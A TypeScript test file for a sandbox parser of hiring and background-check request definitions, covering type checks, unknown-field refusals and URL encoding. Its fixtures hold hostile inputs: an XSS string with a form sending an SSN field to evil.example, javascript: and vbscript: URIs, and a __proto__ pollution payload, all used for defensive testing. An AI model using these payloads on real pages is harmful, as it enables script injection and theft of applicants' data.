import { ACME_STAFFING } from '../../sandbox/catalogue/issuers';
import { APPLICANT_QUESTIONS } from '../../sandbox/catalogue/questions';
import type { RequestDefinition } from '../../sandbox/model/request-definition';
import {
  definedIssuer,
  definedRequest,
  linkQuery,
  parseRequestDefinition,
} from '../../sandbox/model/request-definition';
import { parseStartupQuery } from '../../src/domain/session/startup-query';

const parsed = (raw: unknown): RequestDefinition => {
  const result = parseRequestDefinition(raw);
  if (!result.ok) throw new Error(result.error);
  return result.value;
};
const refusal = (raw: unknown): string => {
  const result = parseRequestDefinition(raw);
  if (result.ok) throw new Error('expected a refusal');
  return result.error;
};

const XSS = '<img src=x onerror=alert(1)><form action="https://evil.example"><input name=ssn></form>';

const FULL = {
  issuer: {
    displayName: 'Globex <b>Hiring</b>',
    primaryColor: '#123456',
    wordmarkUri: 'javascript:alert(1)',
    consentHtml: {
      'consent.fcra': { html: XSS, data: { company: 'Globex', year: 2026, final: true } },
      'consent.other': '<style>h1{color:white}</style>',
      'consent.fcra.authorized': { data: XSS },
    },
    supportContactInfo: { email: 'help@globex.example', phone: '+1 555 010 0199', url: 'http://x', urlTitle: 'Help' },
    idoConfirmationMessage: { headingText: '<h1>Thanks</h1>', messageText: XSS },
    idoStatusMessages: {
      complete: { msg: 'Done', url: 'vbscript:msgbox', urlTitle: 'More' },
      in_process: { msg: 'Wait' },
    },
    privacyPolicy: { headline: 'Privacy', message: XSS, url: 'https://globex.example/p', title: 'Policy' },
    translations: {
      es: {
        consentHtml: { 'consent.fcra': { html: XSS }, 'consent.fcra.authorized': { data: XSS } },
        idoConfirmationMessage: { headingText: '<h1>Gracias</h1>' },
        idoStatusMessages: { complete: { urlTitle: 'Más' } },
        privacyPolicy: { message: XSS },
      },
    },
  },
  questions: [
    {
      attrType: 'core.ssn',
      type: 'ssn',
      metadata: {
        title: XSS,
        required: true,
        icon: 'rocket',
        nextAttrTypes: ['a'],
        constraints: '{not json',
        translations: { es: { title: XSS, description: 'Su número' } },
      },
    },
    { attrType: 'employment.size', type: 'string-enum', metadata: { constraints: { options: ['S', 'M'] } } },
    { attrType: 'consent.fcra', type: 'consent' },
  ],
  status: 'in_process',
  balance: 12.5,
  offenses: [{ id: 'o1', specificOffense: XSS, effectiveDate: 'not a date' }],
  transitionUri: 'https://next.example/go',
  continueUrl: 'https://issuer.example/back?x=1&y=two words',
  enableReturn: true,
  answers: { 'core.ssn': '123-45-6789', 'consent.fcra': { accepted: true } },
  consentGiven: true,
  handoffCodes: false,
};

describe('a request definition', () => {
  it('is empty without a body, so every default applies', () => {
    expect(parsed(undefined)).toEqual({});
    expect(parsed({})).toEqual({});
  });

  it('keeps every value as sent, hostile or not (only types are checked)', () => {
    const definition = parsed(FULL);
    expect(definition).toEqual({
      ...FULL,
      questions: [FULL.questions[0], FULL.questions[1], { ...FULL.questions[2], metadata: {} }],
    });
  });

  it.each([
    [null, 'the body must be an object, not null'],
    [[], 'the body must be an object, not a list'],
    [{ balance: '5' }, 'balance must be a number >= 0, not a string'],
    [{ balance: -1 }, 'balance must be a number >= 0'],
    [{ status: 'done' }, 'status must be one of new, in_process, complete, timeout, terminated'],
    [{ enableReturn: 'true' }, 'enableReturn must be true or false, not a string'],
    [{ consentGiven: 1 }, 'consentGiven must be true or false, not a number'],
    [{ handoffCodes: 'no' }, 'handoffCodes must be true or false, not a string'],
    [{ continueUrl: null }, 'continueUrl must be a string, not null'],
    [{ transitionUri: 5 }, 'transitionUri must be a string, not a number'],
    [{ answers: [] }, 'answers must be an object, not a list'],
    [{ issuer: 'acme' }, 'issuer must be an object, not a string'],
    [{ issuer: { displayName: null } }, 'issuer.displayName must be a string, not null'],
    [{ issuer: { wordmarkUri: 1 } }, 'issuer.wordmarkUri must be a string, not a number'],
    [
      { issuer: { idoStatusMessages: { complete: { msg: 'Done', url: 7 } } } },
      'issuer.idoStatusMessages.complete.url must be a string, not a number',
    ],
    [{ issuer: { idoStatusMessages: { complete: {} } } }, 'issuer.idoStatusMessages.complete.msg is required'],
    [
      { issuer: { consentHtml: { 'consent.fcra': 5 } } },
      'issuer.consentHtml.consent.fcra must be a string, an object { html, data } or { data: html }, not a number',
    ],
    [{ issuer: { consentHtml: { 'consent.fcra': { data: {} } } } }, 'issuer.consentHtml.consent.fcra.html is required'],
    [
      { issuer: { consentHtml: { 'consent.fcra': { data: '<p>A</p>', extra: 1 } } } },
      'issuer.consentHtml.consent.fcra.extra is not a known field (data)',
    ],
    [
      { issuer: { consentHtml: { 'consent.fcra': { html: '', data: { a: {} } } } } },
      'issuer.consentHtml.consent.fcra.data.a must be a string, a number or true/false, not an object',
    ],
    [
      { issuer: { supportContactInfo: { phone: 5550100 } } },
      'issuer.supportContactInfo.phone must be a string, not a number',
    ],
    [{ issuer: { privacyPolicy: [] } }, 'issuer.privacyPolicy must be an object, not a list'],
    [
      { issuer: { idoConfirmationMessage: { headingText: true } } },
      'issuer.idoConfirmationMessage.headingText must be a string, not true/false',
    ],
    [
      { issuer: { translations: { es: { idoStatusMessages: { complete: { msg: 1 } } } } } },
      'issuer.translations.es.idoStatusMessages.complete.msg must be a string, not a number',
    ],
    [
      { issuer: { translations: { es: { consentHtml: { 'consent.fcra': [] } } } } },
      'issuer.translations.es.consentHtml.consent.fcra must be a string, an object { html, data } or { data: html }, not a list',
    ],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { translations: { es: { title: 2 } } } }] },
      'questions[0].metadata.translations.es.title must be a string, not a number',
    ],
    [{ questions: {} }, 'questions must be a list, not an object'],
    [{ questions: [{ type: 'ssn' }] }, 'questions[0].attrType is required'],
    [{ questions: [{ attrType: 'a', type: 1 }] }, 'questions[0].type must be a string, not a number'],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { required: 'yes' } }] },
      'questions[0].metadata.required must be true or false, not a string',
    ],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { constraints: { options: [1] } } }] },
      'questions[0].metadata.constraints.options[0] must be a string, not a number',
    ],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { constraints: 3 } }] },
      'questions[0].metadata.constraints must be a JSON string or an object, not a number',
    ],
    [{ offenses: [{ id: 'o1', specificOffense: 'x' }] }, 'offenses[0].effectiveDate is required'],
    [
      { offenses: [{ id: 2, specificOffense: 'x', effectiveDate: 'y' }] },
      'offenses[0].id must be a string, not a number',
    ],
  ])('refuses a wrong type, naming its path: %j', (raw, error) => {
    expect(refusal(raw)).toBe(error);
  });

  it.each([
    [{ colour: 'red' }, 'colour is not a known field'],
    [{ issuer: { logo: 'x' } }, 'issuer.logo is not a known field'],
    [
      { issuer: { idoStatusMessages: { complete: { msg: 'x', link: 'y' } } } },
      'issuer.idoStatusMessages.complete.link is not a known field',
    ],
    [{ issuer: { supportContactInfo: { fax: '1' } } }, 'issuer.supportContactInfo.fax is not a known field'],
    [{ issuer: { translations: { fr: {} } } }, 'issuer.translations.fr is not a known field'],
    [
      { issuer: { translations: { es: { displayName: 'Acme' } } } },
      'issuer.translations.es.displayName is not a known field',
    ],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { translations: { es: { hint: 'x' } } } }] },
      'questions[0].metadata.translations.es.hint is not a known field',
    ],
    [{ questions: [{ attrType: 'a', type: 'text', complete: true }] }, 'questions[0].complete is not a known field'],
    [
      { questions: [{ attrType: 'a', type: 'text', metadata: { reqired: true } }] },
      'questions[0].metadata.reqired is not a known field',
    ],
    [
      { offenses: [{ id: 'o', specificOffense: 'x', effectiveDate: 'y', court: 'z' }] },
      'offenses[0].court is not a known field',
    ],
    [JSON.parse('{"__proto__": {"status": "complete"}}'), '__proto__ is not a known field'],
  ])('refuses an unknown field, naming its path and the known ones: %j', (raw, start) => {
    expect(refusal(raw)).toMatch(new RegExp(`^${start.replace(/[.[\]]/g, '\\$&')} \\(.+\\)$`));
  });

  it('names the fields an object has when it refuses an unknown one', () => {
    expect(refusal({ issuer: { supportContactInfo: { fax: '1' } } })).toBe(
      'issuer.supportContactInfo.fax is not a known field (email, phone, url, urlTitle)',
    );
  });

  it('takes null where the issuer record can have none', () => {
    const nulls = {
      primaryColor: null,
      wordmarkUri: null,
      supportContactInfo: null,
      idoConfirmationMessage: null,
      privacyPolicy: null,
    };
    expect(parsed({ issuer: nulls, transitionUri: null })).toEqual({ issuer: nulls, transitionUri: null });
  });

  it('keeps an odd map key as an own entry, never reaching a prototype', () => {
    const definition = parsed(JSON.parse('{"issuer": {"consentHtml": {"__proto__": "<p>x</p>"}}}'));
    const consent = definition.issuer?.consentHtml ?? {};
    expect(Object.keys(consent)).toEqual(['__proto__']);
    expect(Object.getPrototypeOf(consent)).toBe(Object.prototype);
  });
});

describe('what a definition makes', () => {
  const DN = 'cn=preview-1,ou=issuers,o=attest';

  it("starts the issuer from Acme Staffing's record under its own dn", () => {
    expect(definedIssuer({}, DN)).toEqual({ ...ACME_STAFFING, id: DN });
    expect(ACME_STAFFING).toEqual(
      expect.objectContaining({ wordmarkUri: null, idoConfirmationMessage: null, idoStatusMessages: {} }),
    );
  });

  it('replaces a whole issuer field with the one given', () => {
    const issuer = definedIssuer(
      { issuer: { displayName: 'Globex', supportContactInfo: { email: 'a@b.example' } } },
      DN,
    );
    expect(issuer.displayName).toBe('Globex');
    expect(issuer.supportContactInfo).toEqual({ email: 'a@b.example' });
    expect(issuer.privacyPolicy).toEqual(ACME_STAFFING.privacyPolicy);
  });

  it("asks the applicant scenario's questions of a new request by default", () => {
    expect(definedRequest({}, DN, 1000)).toEqual({
      dn: DN,
      questions: APPLICANT_QUESTIONS,
      status: 'new',
      submittedAt: null,
      completedAt: null,
    });
  });

  it('passes every request field on', () => {
    const definition = parsed(FULL);
    expect(definedRequest(definition, DN, 1000)).toEqual({
      dn: DN,
      questions: definition.questions,
      status: 'in_process',
      balance: 12.5,
      offenses: FULL.offenses,
      transitionUri: 'https://next.example/go',
      answers: FULL.answers,
      consentGiven: true,
      handoffCodes: false,
      submittedAt: 1000,
      completedAt: null,
    });
  });

  it.each([
    ['new', null, null],
    ['in_process', 1000, null],
    ['complete', 1000, 1000],
    ['timeout', null, null],
    ['terminated', null, null],
  ] as const)('dates a %s request as submitted %p and completed %p', (status, submittedAt, completedAt) => {
    expect(definedRequest({ status }, DN, 1000)).toEqual(expect.objectContaining({ submittedAt, completedAt }));
  });

  it('puts the continue URL and enable_return into the link as the app reads them', () => {
    const query = linkQuery({ continueUrl: FULL.continueUrl, enableReturn: true });
    expect(parseStartupQuery(`?rprId=r&canary=c${query}`)).toEqual({
      rprId: 'r',
      canary: 'c',
      continueUrl: FULL.continueUrl,
      enableReturn: true,
    });
    expect(linkQuery({ enableReturn: false })).toBe('&enable_return=false');
    expect(linkQuery({})).toBe('');
  });

  it('encodes a continue URL that encodeURIComponent would throw on', () => {
    expect(linkQuery({ continueUrl: 'https://x.example/\uD800' })).toBe(
      '&continue_url=https%3A%2F%2Fx.example%2F%EF%BF%BD',
    );
  });
});
